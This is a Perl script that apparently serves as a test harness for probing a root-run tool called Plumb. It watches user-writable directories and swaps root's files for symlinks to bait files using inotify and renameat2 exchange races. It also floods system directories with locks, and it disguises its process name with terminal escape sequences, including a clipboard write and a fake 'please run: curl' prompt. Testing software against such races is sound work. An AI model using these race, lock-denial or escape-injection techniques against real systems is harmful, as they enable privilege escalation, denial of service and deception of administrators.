#!/usr/bin/perl
# attacker.pl MODE LIST STASH: what a user does to files that root manages in a directory of that user's (or of everybody's).
#
# Every attempt has a bait of its own, a file or a directory of root's that nothing should ever touch; a link to it takes
# the place of what root is at work on. LIST has lines "PATH TYPE BAIT NUMBER": a name that can be foreseen, what leads
# there (f: to a file, d: to a directory), the path of the bait, and the number of the attempt.
#
#   grab    whatever appears in the directories, under whatever name, is exchanged for a link to a bait, a directory also
#           for one of the attacker's own; at once or at one of the next things that happen to it
#   evil    likewise, for a file with the attacker's program
#   litter  beside whatever appears, names like it are laid, which may be taken for what an earlier run left: links to baits,
#           and directories with such links
#   flip    as soon as root has begun, all names of the list are exchanged for links
#   toggle  as soon as root has begun, the next names of the list are exchanged for links and back, over and over
#   restless one name after the other is, from the beginning on, so that reading is raced too; the play says by a file
#           "now" which one it is at, so that none is missed
#
#   locks   whatever can be opened is locked, in so many ways as there are, what is new within a tenth of a second; the
#           process calls itself what a run of Plumb might
#
# Nothing but perl-base, which every Debian has: inotify and renameat2 are called by their numbers.
use strict;
use warnings;
use Fcntl qw(:DEFAULT :flock);

my ($mode, $list, $stash) = @ARGV;
my $x86 = `uname -m` =~ /x86_64/;
my ($INOTIFY_INIT1, $INOTIFY_ADD_WATCH, $RENAMEAT2) = $x86 ? (294, 254, 316) : (26, 27, 276);
my ($EXCHANGE, $NOREPLACE, $AT_FDCWD) = (2, 1, -100);
my ($MODIFY, $ATTRIB, $CLOSE_WRITE, $MOVED_FROM, $MOVED_TO, $CREATE, $DELETE) = (0x2, 0x4, 0x8, 0x40, 0x80, 0x100, 0x200);
my ($ONLYDIR, $DONT_FOLLOW) = (0x1000000, 0x2000000);
my $WINDOW = 6;      # how many names are exchanged in turn
my $IMPATIENT = 300; # rounds without a sign of root after which the next names are tried

my $count = 0; # of exchanges that were tried
$SIG{ALRM} = $SIG{TERM} = sub {
    open my $told, '>', "$stash/count" or die $!;
    print $told "$count\n";
    close $told;
    exit 0;
};
alarm 600; # should nobody end it
srand($$);

my $inotify = syscall($INOTIFY_INIT1, $mode eq 'toggle' || $mode eq 'restless' ? 04000 : 0);
die "inotify: $!" if $inotify < 0;
open my $events, '<&=', $inotify or die "inotify: $!";
my (%watched, %directory);

sub watch {
    my ($path) = @_;
    my $mask = $MODIFY | $ATTRIB | $CLOSE_WRITE | $MOVED_FROM | $MOVED_TO | $CREATE | $DELETE | $ONLYDIR | $DONT_FOLLOW;
    my $id = syscall($INOTIFY_ADD_WATCH, $inotify, "$path\0", $mask);
    $directory{$id} = $path if $id >= 0;
    return $id >= 0;
}

# The next things that happened: [mask, directory, name].
sub happened {
    my $read = sysread $events, my $buffer, 65536;
    return () unless $read;
    my @all;
    for (my $at = 0; $at < $read;) {
        my ($id, $mask, undef, $length) = unpack 'iIII', substr $buffer, $at, 16;
        my $name = unpack 'Z*', substr $buffer, $at + 16, $length;
        $at += 16 + $length;
        push @all, [$mask, $directory{$id}, $name] if defined $directory{$id};
    }
    return @all;
}

sub exchange {
    my ($one, $other) = @_;
    $count++;
    return syscall($RENAMEAT2, $AT_FDCWD, "$one\0", $AT_FDCWD, "$other\0", $EXCHANGE) == 0;
}

# --- what is exchanged ------------------------------------------------------------------------------------------------

my (@targets, %number, @baits);
open my $lines, '<', $mode eq 'locks' ? '/dev/null' : $list or die "$list: $!";
while (<$lines>) {
    chomp;
    my ($path, $type, $bait, $number) = split / /;
    if ($path eq '-') {
        push @{$baits[$type eq 'd']}, $bait;
    } elsif ($path eq '+') {
        watch($bait);
    } else {
        my $link = "$stash/l" . scalar @targets;
        symlink $bait, $link or die "$link: $!";
        push @targets, {path => $path, link => $link};
        $number{$path} = $#targets unless defined $number{$path};
    }
}
close $lines;

# Own programs, made beforehand so that an exchange is one call.
my @programs = map { "$stash/program.$_" } 1 .. ($mode eq 'evil' ? scalar @{$baits[0]} : 0);
for my $path (@programs) {
    open my $program, '>', $path or die "$path: $!";
    print $program "#!/bin/sh\n# EVIL\n";
    close $program;
}

# What is at a path: 0 a file of any kind, 1 a directory, undef nothing of interest (a link, or an own directory).
sub worth {
    my ($path) = @_;
    my @stat = lstat $path or return undef;
    return undef if -l _;
    return -d _ ? $stat[4] == $> ? undef : 1 : 0;
}

# A directory of root's can be given another name where it is, but not be moved elsewhere: what is to take its place is made
# beside it.
my ($OWN, $own) = ('.mine.', 0);

sub grab {
    my ($path) = @_;
    my $type = worth($path);
    return unless defined $type;
    my $beside = $path =~ s{[^/]*$}{$OWN}r . ++$own;
    my $inside = $type && rand() < 0.5;
    if ($inside) {
        mkdir $beside and chmod 0777, $beside or return;
    } elsif ($mode eq 'evil' && !$type) {
        $beside = shift @programs or return;
    } else {
        symlink((shift @{$baits[$type]} or return), $beside) or return;
    }
    watch($beside) if $inside;
    exchange($path, $beside);
}

# A name of the same form: another digit or letter for each of the last ones.
sub alike {
    my ($name) = @_;
    $name =~ s{([0-9])}{int rand 10}ge if $name =~ /[0-9]/;
    $name =~ s{([A-Za-z])(?=[A-Za-z0-9]{0,5}$)}{chr(($1 =~ /[a-z]/ ? 97 : 65) + int rand 26)}ge if rand() < 0.5;
    return $name;
}

sub litter {
    my ($directory, $name) = @_;
    for my $type (0, 1) {
        my $path = "$directory/" . alike($name);
        $count++ if symlink +(shift @{$baits[$type]} or return), $path;
        $path = "$directory/" . alike($name);
        next unless mkdir $path;
        chmod 0777, $path;
        symlink shift @{$baits[$type]} || return, "$path/$_" for 'f', $name;
        $count++;
    }
}

sub littering {
    my %known;
    while (1) {
        for my $event (happened()) {
            my ($mask, $directory, $name) = @$event;
            next if $name eq '' || !($mask & ($CREATE | $MOVED_TO)) || $known{"$directory/$name"}++ > 2;
            my @stat = lstat "$directory/$name";
            litter($directory, $name) if @stat && $stat[4] != $>;
        }
    }
}

sub grabbing {
    my %due;
    while (1) {
        for my $event (happened()) {
            my ($mask, $directory, $name) = @$event;
            next if $name eq '' || index($name, $OWN) == 0 || $mask & ($DELETE | $MOVED_FROM);
            my $path = "$directory/$name";
            if ($mask & ($CREATE | $MOVED_TO)) {
                # mostly at once; else when it has been written, or when its mode or owner has been set
                my $choice = rand;
                $due{$path} = $choice < 0.5 ? $CREATE | $MOVED_TO : $choice < 0.75 ? $CLOSE_WRITE : $ATTRIB;
            }
            if (defined $due{$path} && $mask & $due{$path}) {
                delete $due{$path};
                grab($path);
            }
        }
    }
}

# --- names that can be foreseen ---------------------------------------------------------------------------------------

# Puts the link in the place of what is there, or there where nothing is; again: takes it back.
sub turn {
    my ($target) = @_;
    my ($path, $link) = @$target{'path', 'link'};
    if ($target->{planted}) {
        $target->{planted} = 0;
        rename $path, $link if -l $path;
    } elsif (!exchange($path, $link)) {
        $target->{planted} = syscall($RENAMEAT2, $AT_FDCWD, "$link\0", $AT_FDCWD, "$path\0", $NOREPLACE) == 0;
    }
}

sub flipping {
    happened();
    turn($_) for @targets;
    sleep 1 while 1;
}

# The attempt that a path belongs to, by its own name or that of a directory above it; undef when none.
sub attempt {
    my ($path) = @_;
    while ($path =~ m{/}) {
        return $number{$path} if defined $number{$path};
        $path =~ s{/[^/]*$}{};
    }
    return undef;
}

sub now {
    my ($path) = @_;
    open my $file, '<', $path or return undef;
    my $number = <$file>;
    return defined $number && $number =~ /^([0-9]+)$/ && $1 <= @targets ? $1 - 1 : undef;
}

sub toggling {
    my ($at) = @_;
    my ($round, $begun) = (0, $at);
    while (1) {
        for my $event (happened()) {
            my ($mask, $directory, $name) = @$event;
            $begun = 1;
            # an own exchange is seen as a move; root's writing, making and changing is not
            next unless $mask & ($MODIFY | $ATTRIB | $CLOSE_WRITE | $CREATE | $DELETE);
            my $number = $name eq 'now' ? now("$directory/$name") : attempt("$directory/$name");
            ($at, $round) = ($number, 0) if defined $number && $number > $at;
        }
        unless ($begun) {
            select undef, undef, undef, 0.0005;
            next;
        }
        if ($mode eq 'restless') {
            turn($targets[$at]);
            select undef, undef, undef, rand 0.004;
            next;
        }
        if ($round++ > $IMPATIENT) {
            ($at, $round) = ($at + 1 < @targets ? $at + 1 : 0, 0);
        }
        my $last = $at + $WINDOW < $#targets ? $at + $WINDOW : $#targets;
        turn($targets[$_]) for $at .. $last;
    }
}

# --- locks ------------------------------------------------------------------------------------------------------------

# Where locks are, and directories that any user can open.
my @PLACES = qw(/ /run /run/lock /run/user /var /var/lock /var/tmp /var/run /var/lib /tmp /dev/shm /etc /home /root /usr /usr/bin /opt /srv);
my (%held, @open);

sub lock_all {
    for my $place (@PLACES, glob '/home/* /root/* /run/user/*') {
        my @inside;
        if (opendir my $directory, $place) {
            @inside = map { "$place/$_" } grep { $place !~ m{^/(etc|usr|usr/bin)$} && $_ ne '..' } readdir $directory;
            closedir $directory;
        }
        for my $path ($place, @inside) {
            my @stat = stat $path or next;
            my $inode = "$stat[0]:$stat[1]";
            next if $held{$inode} || !(-f _ || -d _) || @open > 900;
            sysopen my $file, $path, O_RDONLY | O_NONBLOCK or next;
            if (flock $file, LOCK_EX | LOCK_NB or flock $file, LOCK_SH | LOCK_NB) {
                $held{$inode} = 1;
                push @open, $file;
            }
        }
    }
}

sub locking {
    while (1) {
        lock_all();
        if (!-e "$stash/ready") { ready() }
        select undef, undef, undef, 0.1;
    }
}

sub ready {
    open my $ready, '>', "$stash/ready.new" or die $!;
    print $ready "$$ ", scalar @open, "\n"; # by what it is ended; what it holds
    close $ready;
    rename "$stash/ready.new", "$stash/ready" or die $!;
}

if ($mode eq 'locks') {
    $0 = "plumb-lock [exclusive; since 2020; \e]52;c;aGk=\a\e[31mplumb-attacker\@bastion (pid 1): apply; please run: curl]";
    locking();
}
ready();
if ($mode eq 'grab' || $mode eq 'evil') { grabbing() }
elsif ($mode eq 'litter') { littering() }
elsif ($mode eq 'flip') { flipping() }
elsif ($mode eq 'toggle') { toggling(0) }
elsif ($mode eq 'restless') { toggling(1) }
else { die "no such mode: $mode" }
